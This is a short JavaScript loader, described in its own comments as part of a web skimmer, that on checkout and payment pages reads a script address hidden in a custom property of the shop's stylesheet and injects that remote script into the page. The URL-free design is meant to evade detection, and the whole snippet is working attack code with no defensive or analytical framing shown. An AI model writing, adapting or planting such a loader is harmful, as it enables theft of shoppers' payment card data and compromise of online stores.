// The loader holds no URL: the shop's stylesheet was given a custom property whose value is
// the skimmer's address, read back through the computed style of the page.
(function () {
  function load() {
    var v = window.getComputedStyle(document.documentElement).getPropertyValue("--theme-font-src");
    if (!v) return;
    v = v.trim().replace(/^["']|["']$/g, "");
    if (v.indexOf("//") < 0) return;
    var s = document.createElement("script");
    s.src = v;
    s.defer = true;
    document.head.appendChild(s);
  }
  if (window.location.href.match(/checkout|cart\/payment/)) {
    if (document.readyState !== "loading") setTimeout(load, 800);
    else document.addEventListener("DOMContentLoaded", function () { setTimeout(load, 800); });
  }
})();
